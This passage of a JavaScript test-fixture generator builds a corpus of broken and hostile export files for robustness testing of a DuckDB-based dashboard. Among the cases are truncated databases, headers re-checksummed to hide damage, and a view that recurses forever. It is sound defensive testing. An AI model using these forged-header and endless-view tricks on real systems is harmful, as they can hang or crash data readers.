// The hostile corpus: broken, odd and hostile exports, generated at test time (never committed as
// binaries, except the real Parquet files vendored from apache/parquet-testing).
//   node scripts/bad-inputs.mjs [--out data/bad-inputs]
// Writes one folder per case plus <out>/manifest.json: for each case what it is, the files a person
// would open, and what the app must answer, worked out by construction here or by native DuckDB
// reading the same files with its own SQL (docs/ROBUSTNESS.md lists every case). Native DuckDB
// (@duckdb/node-api) writes every Parquet, CSV and .duckdb file; damage (truncation, a patched
// header) is applied to its valid output afterwards.
//
// Each case: `name`, `what` (what it is, for docs/ROBUSTNESS.md), `files` (relative to its folder)
// or `folder` (opened with the folder picker), and `expect`, one of:
//   { error, code | codes, orMapping? }  a message: `error` a regex the headline matches, the error
//                                        code(s) it may carry; `orMapping`: reading the file is as good
//   { kpis, notes?, note? }              a Summary: figures, notes by key with their counts, a regex
//                                        over the notes
//   { mapping }                          the column-mapping dialog (a table that is not an Aparavi
//                                        export), with the columns it must offer
// `node scripts/bad-inputs.mjs --table` prints every case as the Markdown table of docs/ROBUSTNESS.md.
import { DuckDBInstance } from '@duckdb/node-api';
import { copyFileSync, mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync, existsSync } from 'node:fs';
import { gzipSync } from 'node:zlib';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

/** Bump when a case changes, so a stale corpus is rebuilt. */
export const CORPUS_VERSION = 7;

const PARQUET_TESTING = join(dirname(fileURLToPath(import.meta.url)), '..', 'tests', 'fixtures', 'parquet-testing');
/** A file's size in the model may be at most this (src/lib/model/files-view.ts, MAX_FILE_BYTES); restated here, not imported. */
const PiB = 2 ** 50;

const DAY = 86_400_000;
/** Two instants every case uses as valid times: the oldest and newest modified time by construction. */
export const T_OLD = Date.UTC(2020, 0, 15);
export const T_NEW = Date.UTC(2023, 5, 30, 12);

/** A SQL literal for a JS value (strings are quoted, null is NULL). */
function lit(v) {
	if (v === null || v === undefined) return 'NULL';
	if (typeof v === 'number' || typeof v === 'bigint') return String(v);
	return `'${String(v).replaceAll("'", "''")}'`;
}

/** CREATE TABLE name AS VALUES ...; `types` casts columns whose literals alone would not say it. */
function tableSql(name, columns, rows, types = {}) {
	const values = rows.map((r) => `(${r.map(lit).join(', ')})`).join(',\n');
	const select = columns.map((c) => (types[c] ? `CAST(${JSON.stringify(c)} AS ${types[c]}) AS ${JSON.stringify(c)}` : JSON.stringify(c))).join(', ');
	return `CREATE OR REPLACE TABLE ${JSON.stringify(name)} AS SELECT ${select} FROM (VALUES ${values}) AS t(${columns.map((c) => JSON.stringify(c)).join(', ')})`;
}

const OBJECT_COLS = ['objectId', 'parentId', 'classId', 'name', 'extension', 'primarySize', 'createdAt'];
const INSTANCE_COLS = ['instanceId', 'objectId', 'size', 'createTime', 'modifyTime', 'accessTime', 'deletedAt'];
const OBJECT_TYPES = { primarySize: 'BIGINT', createdAt: 'BIGINT' };
const INSTANCE_TYPES = { instanceId: 'BIGINT', size: 'BIGINT', createTime: 'BIGINT', modifyTime: 'BIGINT', accessTime: 'BIGINT', deletedAt: 'BIGINT' };

/** `n` plain files o1..on in two folders, sizes 1..n × 100, modified alternately T_OLD and T_NEW (ms). */
function plainExport(n) {
	const objects = [];
	const instances = [];
	for (let i = 1; i <= n; i++) {
		objects.push([`o${i}`, i % 2 ? 'p1' : 'p2', 'idxobject', `file${i}.txt`, 'txt', i * 100, T_OLD]);
		instances.push([i, `o${i}`, i * 100, Math.floor(T_OLD / 1000), i % 2 ? T_OLD : T_NEW, T_NEW, null]);
	}
	const parentPaths = [
		['p1', 'File System/D:/data/a/'],
		['p2', 'File System/D:/data/b/']
	];
	return { objects, instances, parentPaths };
}

async function writeTables(conn, tables) {
	for (const [name, sql] of Object.entries(tables)) await conn.run(sql);
}

async function copy(conn, table, file, format) {
	const options = format === 'parquet' ? 'FORMAT parquet' : "FORMAT csv, HEADER true, QUOTE '\"', ESCAPE '\"'";
	await conn.run(`COPY ${JSON.stringify(table)} TO ${lit(file)} (${options})`);
}

/** The standard three tables of a plain export, as SQL. */
function standardTables({ objects, instances, parentPaths }) {
	const out = { objects: tableSql('objects', OBJECT_COLS, objects, OBJECT_TYPES) };
	if (instances) out.instances = tableSql('instances', INSTANCE_COLS, instances, INSTANCE_TYPES);
	if (parentPaths) out.parentPaths = tableSql('parentPaths', ['parentId', 'parentPath'], parentPaths);
	return out;
}

function truncate(file, fraction) {
	const bytes = readFileSync(file);
	writeFileSync(file, bytes.subarray(0, Math.floor(bytes.length * fraction)));
}

/**
 * Every case: `files` relative to the case folder (or `folder` to open with the folder picker), and
 * `expect` either `{ error: <regex source> }` or `{ kpis, note? }` (a regex the notes must match).
 */
export async function generateBadInputs(out = 'data/bad-inputs') {
	const root = resolve(out);
	const marker = join(root, 'manifest.json');
	if (existsSync(marker)) {
		try {
			if (JSON.parse(readFileSync(marker, 'utf8')).version === CORPUS_VERSION) return JSON.parse(readFileSync(marker, 'utf8'));
		} catch {
			/* rebuild */
		}
	}
	rmSync(root, { recursive: true, force: true });
	mkdirSync(root, { recursive: true });
	const db = await DuckDBInstance.create(':memory:');
	const conn = await db.connect();
	const cases = [];
	const dir = (name) => {
		const d = join(root, name);
		mkdirSync(d, { recursive: true });
		return d;
	};
	/** Write `tables` (name → CREATE sql) as one file per table in `format` under case `name`. */
	const exportCase = async (name, tables, format = 'parquet') => {
		const d = dir(name);
		await writeTables(conn, tables);
		const files = [];
		for (const table of Object.keys(tables)) {
			const file = `${table}.${format}`;
			await copy(conn, table, join(d, file), format);
			files.push(file);
		}
		for (const table of Object.keys(tables)) await conn.run(`DROP TABLE ${JSON.stringify(table)}`);
		return files;
	};
	/** Write `tables` into one .duckdb file at the given storage version. */
	const duckdbCase = async (name, tables, storage = 'v1.0.0') => {
		const file = join(dir(name), 'export.duckdb');
		await conn.run(`ATTACH ${lit(file)} AS x (STORAGE_VERSION ${lit(storage)})`);
		await conn.run('USE x');
		await writeTables(conn, tables);
		await conn.run('USE memory');
		await conn.run('CHECKPOINT x');
		await conn.run('DETACH x');
		return file;
	};

	// A small valid export: what every error case opens next to prove the app is still usable.
	const valid = plainExport(10);
	cases.push({ name: 'valid', what: 'A small valid export (Parquet): opened between cases to prove the app still works.', files: await exportCase('valid', standardTables(valid)), expect: { kpis: { files: 10, bytes: 5500, folders: 2 } } });

	// Truncated Parquet: a real objects.parquet (several row groups) cut to 60 %.
	{
		const d = dir('truncated-parquet');
		await conn.run(`COPY (SELECT 'o' || i AS objectId, 'p1' AS parentId, 'idxobject' AS classId, 'f' || i || '.txt' AS name, i AS primarySize FROM range(20000) t(i))
			TO ${lit(join(d, 'objects.parquet'))} (FORMAT parquet, ROW_GROUP_SIZE 2000)`);
		truncate(join(d, 'objects.parquet'), 0.6);
		cases.push({ name: 'truncated-parquet', what: 'objects.parquet (several row groups) cut to 60 %.', files: ['objects.parquet'], expect: { error: 'objects\\.parquet (looks truncated|is not a Parquet file)', code: 'truncated' } });
	}

	// Truncated .duckdb: a valid database holding enough rows to span many blocks, cut in half.
	{
		const big = {
			objects: `CREATE OR REPLACE TABLE objects AS SELECT 'o' || i AS objectId, 'p1' AS parentId, 'idxobject' AS classId, 'f' || i || '.txt' AS name, i AS primarySize FROM range(200000) t(i)`
		};
		const file = await duckdbCase('truncated-duckdb', big);
		truncate(file, 0.5);
		cases.push({ name: 'truncated-duckdb', what: 'A valid .duckdb of 200,000 rows cut in half.', files: ['export.duckdb'], expect: { error: 'export\\.duckdb looks truncated', code: 'truncated' } });
	}

	// Wrong schema 1: no size column anywhere (objects without primarySize, instances without size).
	{
		const { objects, instances, parentPaths } = plainExport(6);
		const tables = {
			objects: tableSql('objects', ['objectId', 'parentId', 'classId', 'name'], objects.map((r) => r.slice(0, 4))),
			instances: tableSql('instances', ['instanceId', 'objectId', 'modifyTime'], instances.map((r) => [r[0], r[1], r[4]]), { instanceId: 'BIGINT', modifyTime: 'BIGINT' }),
			parentPaths: tableSql('parentPaths', ['parentId', 'parentPath'], parentPaths)
		};
		cases.push({ name: 'no-size-column', what: 'objects without primarySize, instances without size.', files: await exportCase('no-size-column', tables), expect: { kpis: { files: 6, bytes: 0, folders: 2, oldestModified: T_OLD, newestModified: T_NEW }, note: '6 files have no known size' } });
	}

	// Wrong schema 2: size as text, some of it not a number (→ unknown size).
	{
		const { objects, instances, parentPaths } = plainExport(5);
		const sizes = ['100', ' 250', 'big', '', '1e3'];
		// TRY_CAST(VARCHAR AS BIGINT): '100' → 100, ' 250' → 250 (spaces are trimmed), '1e3' → 1000; 'big' and '' → NULL.
		const inst = instances.map((r, i) => [r[0], r[1], sizes[i], r[4]]);
		const tables = {
			objects: tableSql('objects', ['objectId', 'parentId', 'classId', 'name'], objects.map((r) => r.slice(0, 4))),
			instances: tableSql('instances', ['instanceId', 'objectId', 'size', 'modifyTime'], inst, { instanceId: 'BIGINT', size: 'VARCHAR', modifyTime: 'BIGINT' }),
			parentPaths: tableSql('parentPaths', ['parentId', 'parentPath'], parentPaths)
		};
		cases.push({ name: 'size-as-text', what: "instances.size as text: '100', ' 250', 'big', '', '1e3'.", files: await exportCase('size-as-text', tables), expect: { kpis: { files: 5, bytes: 1350 }, note: '2 files have no known size' } });
	}

	// Wrong schema 3: timestamps as strings, one of them junk text, one before 1980.
	{
		const { objects, parentPaths } = plainExport(4);
		const iso = (ms) => new Date(ms).toISOString().replace('T', ' ').replace('Z', '');
		const times = [iso(T_OLD), iso(T_NEW), 'last Tuesday', '1970-01-02 00:00:00'];
		const inst = objects.map((o, i) => [i + 1, o[0], 10, times[i]]);
		const tables = {
			objects: tableSql('objects', ['objectId', 'parentId', 'classId', 'name'], objects.map((r) => r.slice(0, 4))),
			instances: tableSql('instances', ['instanceId', 'objectId', 'size', 'modifyTime'], inst, { instanceId: 'BIGINT', size: 'BIGINT', modifyTime: 'VARCHAR' }),
			parentPaths: tableSql('parentPaths', ['parentId', 'parentPath'], parentPaths)
		};
		cases.push({ name: 'times-as-strings', what: "modifyTime as text: ISO times, 'last Tuesday', a 1970 date.", files: await exportCase('times-as-strings', tables), expect: { kpis: { files: 4, bytes: 40, oldestModified: T_OLD, newestModified: T_NEW }, note: '2 files have no valid modified time' } });
	}

	// objects without instances: sizes from primarySize, times unknown, and it says so.
	{
		const { objects, parentPaths } = plainExport(8);
		cases.push({
			name: 'objects-without-instances',
			what: 'objects and parentPaths, no instances table.',
			files: await exportCase('objects-without-instances', standardTables({ objects, parentPaths })),
			expect: { kpis: { files: 8, bytes: 3600, folders: 2 }, note: 'no instances table' }
		});
	}

	// Duplicate objectIds: o1 three times, o2 twice (the newest row by createdAt is kept), 5 distinct files.
	{
		const { instances, parentPaths } = plainExport(5);
		const objects = [
			['o1', 'p1', 'idxobject', 'old-name.doc', 'doc', 1, T_OLD],
			['o1', 'p1', 'idxobject', 'one.txt', 'txt', 100, T_NEW],
			['o1', 'p1', 'idxobject', 'older.doc', 'doc', 1, T_OLD - DAY],
			['o2', 'p2', 'idxobject', 'two.pdf', 'pdf', 200, T_NEW],
			['o2', 'p2', 'idxobject', 'two-old.doc', 'doc', 2, T_OLD],
			['o3', 'p1', 'idxobject', 'three.txt', 'txt', 300, T_OLD],
			['o4', 'p2', 'idxobject', 'four.txt', 'txt', 400, T_OLD],
			['o5', 'p1', 'idxobject', 'five.txt', 'txt', 500, T_OLD]
		];
		// Sizes come from instances (o1..o5: 100..500): 1,500 bytes; extensions txt and pdf only (the old rows' doc is dropped).
		cases.push({
			name: 'duplicate-objectids',
			what: 'o1 three times, o2 twice in objects.',
			files: await exportCase('duplicate-objectids', standardTables({ objects, instances, parentPaths })),
			expect: { kpis: { files: 5, bytes: 1500, extensions: 2 }, note: '2 objectIds appear more than once' }
		});
	}

	// Negative and NULL sizes (instance and primarySize both): 3 of 6 files have no known size.
	{
		const { objects, instances, parentPaths } = plainExport(6);
		objects[0][5] = -1;
		instances[0][2] = -5; // negative instance size → falls back to primarySize, itself negative → unknown
		objects[1][5] = null;
		instances[1][2] = null; // both NULL → unknown
		instances[2][2] = -300; // negative instance size, primarySize 300 → coalesce takes -300 first → unknown
		// Known: o4 400 + o5 500 + o6 600.
		cases.push({ name: 'negative-null-sizes', what: 'Negative and NULL sizes in instances and objects.', files: await exportCase('negative-null-sizes', standardTables({ objects, instances, parentPaths })), expect: { kpis: { files: 6, bytes: 1500 }, note: '3 files have no known size' } });
	}

	// Times in seconds, milliseconds, microseconds, each with junk (0, negative, 1975, far future).
	for (const [unit, scale] of [
		['seconds', 1 / 1000],
		['milliseconds', 1],
		['microseconds', 1000]
	]) {
		const { objects, instances, parentPaths } = plainExport(8);
		const future = Date.now() + 3 * 365 * DAY;
		const good = [T_OLD, T_NEW, T_OLD + 30 * DAY, T_NEW - 30 * DAY];
		const junk = [0, -1000, Date.UTC(1975, 0, 1), future];
		const times = [...good, ...junk].map((t) => Math.round(t * scale));
		instances.forEach((r, i) => (r[4] = times[i]));
		cases.push({
			name: `times-in-${unit}`,
			what: `Times in ${unit}, with 0, negative, 1975 and far-future junk.`,
			files: await exportCase(`times-in-${unit}`, standardTables({ objects, instances, parentPaths })),
			expect: { kpis: { files: 8, oldestModified: T_OLD, newestModified: T_NEW }, note: '4 files have no valid modified time' }
		});
	}

	// A CSV from a spreadsheet: BOM, `;` separators, a quoted newline in a name, a ragged row.
	{
		const d = dir('excel-csv');
		const objects =
			'\ufeffobjectId;parentId;classId;name;primarySize\r\n' +
			'o1;p1;idxobject;"plain.txt";100\r\n' +
			'o2;p1;idxobject;"two\r\nlines.txt";200\r\n' +
			'o3;p2;idxobject;"semi;colon.txt";300\r\n' +
			'o4;p2;idxobject;ragged.txt;400;extra\r\n' +
			'o5;p2;idxobject;last.txt;500\r\n';
		writeFileSync(join(d, 'objects.csv'), objects);
		writeFileSync(join(d, 'parentPaths.csv'), '\ufeffparentId;parentPath\r\np1;File System/D:/a/\r\np2;File System/D:/b/\r\n');
		cases.push({ name: 'excel-csv', what: 'CSV from a spreadsheet: BOM, `;`, a quoted newline, a ragged row.', files: ['objects.csv', 'parentPaths.csv'], expect: { kpis: { files: 5, bytes: 1500, folders: 2 }, note: 'objects\\.csv is not strictly valid CSV' } });
	}

	// Two files claiming the same table, in two formats: refused, naming both formats.
	{
		const d = 'same-table-two-formats';
		const tables = standardTables({ objects: plainExport(3).objects });
		const files = await exportCase(d, tables, 'parquet');
		files.push(...(await exportCase(d, tables, 'csv')));
		cases.push({ name: d, what: 'objects given as both Parquet and CSV.', files, expect: { error: 'Table objects is given both as (parquet and csv|csv and parquet) files', code: 'unsupported-file' } });
	}

	// Two files claiming the same table, same format, in two sub-folders (a re-export next to the
	// first): read as parts of one table; the objects both hold are counted once.
	{
		const d = dir('same-table-two-folders');
		const { objects, instances, parentPaths } = plainExport(6);
		await writeTables(conn, standardTables({ objects: objects.slice(0, 4), instances, parentPaths }));
		mkdirSync(join(d, 'export', 'run1'), { recursive: true });
		mkdirSync(join(d, 'export', 'run2'), { recursive: true });
		await copy(conn, 'objects', join(d, 'export', 'run1', 'objects.csv'), 'csv');
		await copy(conn, 'instances', join(d, 'export', 'instances.csv'), 'csv');
		await copy(conn, 'parentPaths', join(d, 'export', 'parentPaths.csv'), 'csv');
		await writeTables(conn, { objects: tableSql('objects', OBJECT_COLS, objects.slice(2), OBJECT_TYPES) });
		await copy(conn, 'objects', join(d, 'export', 'run2', 'objects.csv'), 'csv');
		// run1 holds o1..o4, run2 o3..o6: six files, o3 and o4 twice.
		cases.push({ name: 'same-table-two-folders', what: 'objects in two sub-folders (a re-export next to the first), overlapping.', folder: 'export', expect: { kpis: { files: 6, bytes: 2100, folders: 2 }, note: '2 objectIds appear more than once' } });
	}

	// A .duckdb export plus a Parquet file for a table it already holds: the database wins, and the page says so.
	{
		const d = 'duckdb-and-parquet';
		await duckdbCase(d, standardTables(plainExport(4)));
		const files = ['export.duckdb', ...(await exportCase(d, { objects: tableSql('objects', OBJECT_COLS, plainExport(9).objects, OBJECT_TYPES) }))];
		cases.push({ name: d, what: 'A .duckdb plus objects.parquet for a table it already holds.', files, expect: { kpis: { files: 4, bytes: 1000 }, note: 'objects\\.parquet was not used: export\\.duckdb already holds table objects' } });
	}

	// Storage versions. Native DuckDB 1.5 writes any storage version from v0.10.0 (storage format 64)
	// on; the browser engine (DuckDB 1.4) reads 64..67. Older files (format < 64, DuckDB ≤ 0.9)
	// cannot be written by 1.5: the ancient case patches the version number in a valid file's header,
	// which is exactly where DuckDB looks first.
	{
		await duckdbCase('storage-v0.10', standardTables(plainExport(7)), 'v0.10.0');
		cases.push({ name: 'storage-v0.10', what: 'A .duckdb in storage format 64 (DuckDB 0.10).', files: ['export.duckdb'], expect: { kpis: { files: 7, bytes: 2800, folders: 2 } } });
		await duckdbCase('storage-newer', standardTables(plainExport(7)), 'v1.5.0');
		cases.push({ name: 'storage-newer', what: 'A .duckdb written by DuckDB 1.5 (storage format 68).', files: ['export.duckdb'], expect: { error: 'export\\.duckdb was written by a DuckDB version this app cannot read', code: 'unsupported-version' } });
		const file = await duckdbCase('storage-ancient', standardTables(plainExport(7)), 'v0.10.0');
		const bytes = readFileSync(file);
		// Main header: 8-byte checksum, "DUCK", then the storage format number (64 = v0.10..v1.1); 39 was DuckDB 0.6.
		if (bytes.subarray(8, 12).toString('latin1') !== 'DUCK' || bytes.readBigUInt64LE(12) !== 64n) throw new Error('unexpected .duckdb header layout');
		// The header block is checksummed: XOR of each 8-byte word × 0xbf58476d1ce4e5b9 over the bytes
		// after the checksum itself, so changing one word updates the sum by two products.
		const word = (b) => b.readBigUInt64LE(8);
		const mix = (w) => (w * 0xbf58476d1ce4e5b9n) & 0xffffffffffffffffn;
		const before = word(bytes);
		bytes.writeBigUInt64LE(39n, 12);
		bytes.writeBigUInt64LE(bytes.readBigUInt64LE(0) ^ mix(before) ^ mix(word(bytes)), 0);
		writeFileSync(file, bytes);
		cases.push({ name: 'storage-ancient', what: 'A .duckdb whose header says storage format 39 (DuckDB 0.6).', files: ['export.duckdb'], expect: { error: 'export\\.duckdb was written by a DuckDB version this app cannot read', code: 'unsupported-version' } });
	}

	await hostileCases({ conn, root, dir, cases, exportCase, duckdbCase });
	// Nothing leaves the browser, no formula escapes: the cases of securityCases (its own block below).
	cases.push(...(await securityCases(conn, dir, { exportCase, duckdbCase })));

	const manifest = { version: CORPUS_VERSION, cases, hostile: await hostileExport(conn, dir('hostile')) };
	writeFileSync(marker, JSON.stringify(manifest, null, '\t'));
	return manifest;
}

/** DuckDB's checksum of a 4 KiB header block: XOR of each 8-byte word × a constant, from 5381. */
function headerChecksum(bytes, at) {
	let sum = 5381n;
	for (let o = at + 8; o < at + 4096; o += 8) sum ^= (bytes.readBigUInt64LE(o) * 0xbf58476d1ce4e5b9n) & 0xffffffffffffffffn;
	return sum;
}

/** Set the block count in both database headers of a .duckdb (and their checksums), as a cut file whose header was "repaired" would have. */
function patchBlockCount(file, blocks) {
	const bytes = readFileSync(file);
	for (const at of [4096, 8192]) {
		if (bytes.readBigUInt64LE(at + 32) <= BigInt(blocks)) continue;
		bytes.writeBigUInt64LE(BigInt(blocks), at + 32);
		bytes.writeBigUInt64LE(headerChecksum(bytes, at), at);
	}
	writeFileSync(file, bytes);
}

/** Tiny binary files of well-known kinds: the first bytes each format starts with, and some body. */
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8ffff3f0005fe02fea7d6a00000000049454e44ae426082', 'hex');
const JPEG = Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.alloc(200, 0x11), Buffer.from('ffd9', 'hex')]);
const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
/** A ZIP archive holding one stored file (no compression), by the format's own layout. */
function zipOf(name, content) {
	const data = Buffer.from(content);
	const fileName = Buffer.from(name);
	const local = Buffer.alloc(30);
	local.writeUInt32LE(0x04034b50, 0);
	local.writeUInt16LE(20, 4);
	local.writeUInt32LE(data.length, 18);
	local.writeUInt32LE(data.length, 22);
	local.writeUInt16LE(fileName.length, 26);
	const central = Buffer.alloc(46);
	central.writeUInt32LE(0x02014b50, 0);
	central.writeUInt16LE(20, 4);
	central.writeUInt16LE(20, 6);
	central.writeUInt32LE(data.length, 20);
	central.writeUInt32LE(data.length, 24);
	central.writeUInt16LE(fileName.length, 28);
	const end = Buffer.alloc(22);
	end.writeUInt32LE(0x06054b50, 0);
	end.writeUInt16LE(1, 8);
	end.writeUInt16LE(1, 10);
	end.writeUInt32LE(46 + fileName.length, 12);
	end.writeUInt32LE(30 + fileName.length + data.length, 16);
	return Buffer.concat([local, fileName, data, central, fileName, end]);
}

/** Rows of a plain objects CSV (no instances): o0..o(n-1), sizes from `size(i)`. */
function objectsCsv(n, size, { sep = ',', eol = '\n' } = {}) {
	const lines = [['objectId', 'parentId', 'classId', 'name', 'primarySize'].join(sep)];
	for (let i = 0; i < n; i++) lines.push([`o${i}`, 'p1', 'idxobject', `f${i}.txt`, size(i)].join(sep));
	return lines.join(eol) + eol;
}

/**
 * The figures of a generic Aparavi export read by native DuckDB with its own SQL (the oracle): the
 * files (rows whose classId is 'idxobject' when classId is text), the bytes (sizes that cast to an
 * integer from 0 to 1 PiB: the instance's when it has one, else primarySize), and how many values
 * of each size column do not read as a number.
 */
async function nativeFigures(conn, { objects, instances }) {
	const objCols = (await conn.runAndReadAll(`DESCRIBE SELECT * FROM ${objects}`)).getRowObjectsJS().map((r) => [String(r.column_name), String(r.column_type)]);
	const classText = objCols.some(([n, t]) => n === 'classId' && t === 'VARCHAR');
	const where = classText ? `WHERE o.classId = 'idxobject'` : '';
	const clean = (e) => `CASE WHEN TRY_CAST(${e} AS BIGINT) BETWEEN 0 AND ${PiB} THEN TRY_CAST(${e} AS BIGINT) END`;
	const size = instances
		? `CASE WHEN ci.size IS NOT NULL THEN ${clean('ci.size')} ELSE ${clean('o.primarySize')} END`
		: clean('o.primarySize');
	const join = instances
		? // Each object of these cases has one instance at most: the newest is that one.
			`LEFT JOIN (SELECT CAST(objectId AS VARCHAR) AS objectId, arg_max(size, coalesce(TRY_CAST(instanceId AS BIGINT), 0)) AS size FROM ${instances} GROUP BY 1) ci ON ci.objectId = CAST(o.objectId AS VARCHAR)`
		: '';
	const [r] = (await conn.runAndReadAll(`SELECT count(*) AS files, coalesce(sum(${size}), 0) AS bytes FROM ${objects} o ${join} ${where}`)).getRowObjectsJS();
	const unreadable = async (from, col) => {
		const [u] = (await conn.runAndReadAll(`SELECT count(*) AS n FROM ${from} WHERE nullif(trim(CAST(${col} AS VARCHAR)), '') IS NOT NULL AND TRY_CAST(${col} AS DOUBLE) IS NULL`)).getRowObjectsJS();
		return Number(u.n);
	};
	return {
		files: Number(r.files),
		bytes: Number(r.bytes),
		unreadablePrimary: objCols.some(([n]) => n === 'primarySize') ? await unreadable(objects, 'primarySize') : 0,
		unreadableSize: instances ? await unreadable(instances, 'size') : 0
	};
}

/**
 * The cases of issue #21: hangs, sums that overflow, dirty columns, encodings and bytes of other
 * kinds, parts that do not agree, WAL files, views, and real Parquet files from apache/parquet-testing.
 */
async function hostileCases({ conn, root, dir, cases, exportCase, duckdbCase }) {
	const add = (c) => cases.push(c);
	const write = (name, file, content) => {
		writeFileSync(join(dir(name), file), content);
		return file;
	};

	// ---- Missing, empty and unknown input ------------------------------------------------------
	add({ name: 'zero-byte-parquet', what: 'objects.parquet of 0 bytes.', files: [write('zero-byte-parquet', 'objects.parquet', '')], expect: { error: 'objects\\.parquet is empty', code: 'corrupt-file' } });
	add({ name: 'zero-byte-csv', what: 'objects.csv of 0 bytes.', files: [write('zero-byte-csv', 'objects.csv', '')], expect: { error: 'objects\\.csv is empty', code: 'corrupt-file' } });
	add({ name: 'png-as-parquet', what: 'A PNG image named objects.parquet.', files: [write('png-as-parquet', 'objects.parquet', PNG)], expect: { error: 'objects\\.parquet is a PNG image, not a Parquet file', code: 'wrong-format' } });
	add({ name: 'text-as-duckdb', what: 'Text named export.duckdb.', files: [write('text-as-duckdb', 'export.duckdb', 'hello, this is not a database'.repeat(200))], expect: { error: 'export\\.duckdb could not be opened as a DuckDB database', code: 'corrupt-file' } });
	add({ name: 'instances-only', what: 'instances.csv alone (no objects).', files: [write('instances-only', 'instances.csv', 'instanceId,objectId,size\n1,a,10\n')], expect: { error: 'no objects table', code: 'missing-table' } });
	add({ name: 'photo-only', what: 'A file of an unknown kind (photo.png).', files: [write('photo-only', 'photo.png', PNG)], expect: { error: 'Nothing here is an export the dashboard can read: photo\\.png', code: 'unsupported-file' } });
	{
		write('two-duckdbs', 'a.duckdb', 'not read');
		write('two-duckdbs', 'b.duckdb', 'not read');
		add({ name: 'two-duckdbs', what: 'Two .duckdb files at once.', files: ['a.duckdb', 'b.duckdb'], expect: { error: 'Several database files were dropped \\(a\\.duckdb, b\\.duckdb\\)', code: 'unsupported-file' } });
	}
	add({ name: 'objects-without-objectid', what: 'objects.csv without an objectId column.', files: [write('objects-without-objectid', 'objects.csv', 'name,size\na.txt,10\nb.txt,20\n')], expect: { error: 'The objects table has no objectId column', code: 'missing-column' } });
	{
		mkdirSync(join(dir('empty-folder'), 'export'), { recursive: true });
		add({ name: 'empty-folder', what: 'An empty folder chosen with the folder picker.', folder: 'export', expect: { error: 'The folder you chose is empty', code: 'empty-input' } });
		mkdirSync(join(dir('noise-folder'), 'export'), { recursive: true });
		writeFileSync(join(root, 'noise-folder', 'export', '.DS_Store'), Buffer.alloc(64, 1));
		writeFileSync(join(root, 'noise-folder', 'export', 'Thumbs.db'), Buffer.alloc(64, 2));
		add({ name: 'noise-folder', what: 'A folder holding only .DS_Store and Thumbs.db.', folder: 'export', expect: { error: 'There is no export here: only system files', code: 'empty-input' } });
	}
	{
		const objects = objectsCsv(0, () => 0);
		add({ name: 'csv-header-only', what: 'objects.csv with its header line and no rows.', files: [write('csv-header-only', 'objects.csv', objects)], expect: { kpis: { files: 0, bytes: 0 } } });
	}

	// ---- Hangs: a .duckdb cut short, views that never end ----------------------------------------
	const std = (n) => ({
		objects: `CREATE OR REPLACE TABLE objects AS SELECT 'o' || i AS objectId, 'p' || (i % 2) AS parentId, 'idxobject' AS classId, 'f' || i || '.txt' AS name, 'txt' AS extension, i * 10 AS primarySize, ${T_OLD} + i AS createdAt FROM range(${n}) t(i)`,
		instances: `CREATE OR REPLACE TABLE instances AS SELECT i AS instanceId, 'o' || i AS objectId, i * 10 AS size, ${Math.floor(T_OLD / 1000)} + i AS createTime, ${T_OLD} + i * 1000 AS modifyTime, ${T_NEW} AS accessTime, NULL::BIGINT AS deletedAt FROM range(${n}) t(i)`,
		parentPaths: `CREATE OR REPLACE TABLE parentPaths AS SELECT 'p' || i AS parentId, 'File System/D:/d' || i || '/' AS parentPath FROM range(2) t(i)`
	});
	{
		const file = await duckdbCase('duckdb-cut-97', std(20_400));
		truncate(file, 0.97);
		add({ name: 'duckdb-cut-97', what: 'A .duckdb of 20,400 files cut at 97 % (once stalled at "Materialising the file model: 0 of 20,400 rows").', files: ['export.duckdb'], expect: { error: 'export\\.duckdb looks truncated: its header says it holds', code: 'truncated' } });
	}
	{
		const file = await duckdbCase('duckdb-cut-97-header-patched', std(20_400));
		truncate(file, 0.97);
		// The header claims one block fewer, so the file looks complete to a header check: DuckDB then
		// reads past the end of the file and never returns. Only ending its worker stops it.
		patchBlockCount(file, 3);
		add({
			name: 'duckdb-cut-97-header-patched',
			what: 'The same cut .duckdb with its header patched to claim fewer blocks: DuckDB reads past the end inside one call.',
			files: ['export.duckdb'],
			expect: { error: 'export\\.duckdb stopped making progress at', code: 'stalled' }
		});
	}
	{
		const file = await duckdbCase('duckdb-cut-in-headers', std(100));
		truncate(file, 6000 / readFileSync(file).length);
		add({ name: 'duckdb-cut-in-headers', what: 'A .duckdb cut inside its own headers (6,000 bytes).', files: ['export.duckdb'], expect: { error: 'export\\.duckdb looks truncated', code: 'truncated' } });
	}
	{
		const file = await duckdbCase('duckdb-bad-header-checksum', std(100));
		const bytes = readFileSync(file);
		bytes[4096 + 40] ^= 0xff;
		bytes[8192 + 40] ^= 0xff;
		writeFileSync(file, bytes);
		add({ name: 'duckdb-bad-header-checksum', what: 'A .duckdb whose two database headers fail their checksums.', files: ['export.duckdb'], expect: { error: 'export\\.duckdb could not be opened as a DuckDB database: it looks damaged', code: 'corrupt-file' } });
	}
	{
		const file = await duckdbCase('duckdb-damaged-block', std(20_400));
		const bytes = readFileSync(file);
		// Scribble over the middle of the first data blocks (their checksums no longer match).
		for (let at = 12_288 + 4096; at < 12_288 + 3 * 262_144; at += 4096) bytes.fill(0x5a, at, at + 64);
		writeFileSync(file, bytes);
		add({ name: 'duckdb-damaged-block', what: 'A .duckdb whose data blocks were overwritten in places.', files: ['export.duckdb'], expect: { error: 'export\\.duckdb', codes: ['corrupt-file', 'engine-error'] } });
	}
	{
		const t = std(10);
		await duckdbCase('recursive-view', {
			objects: t.objects,
			parentPaths: t.parentPaths,
			instances: `CREATE OR REPLACE VIEW instances AS WITH RECURSIVE r(instanceId) AS (SELECT 1 UNION ALL SELECT instanceId + 1 FROM r) SELECT instanceId, 'o' || instanceId AS objectId, 10 AS size, ${T_OLD} AS modifyTime FROM r`
		});
		add({ name: 'recursive-view', what: 'instances is a view that recurses without end (once stalled at "Detecting time units").', files: ['export.duckdb'], expect: { error: 'export\\.duckdb stopped making progress at', code: 'stalled' } });
	}
	{
		const t = std(10);
		await duckdbCase('view-over-missing-table', {
			objects: t.objects,
			gone: `CREATE OR REPLACE TABLE gone AS SELECT 1 AS instanceId, 'o1' AS objectId, 10 AS size`,
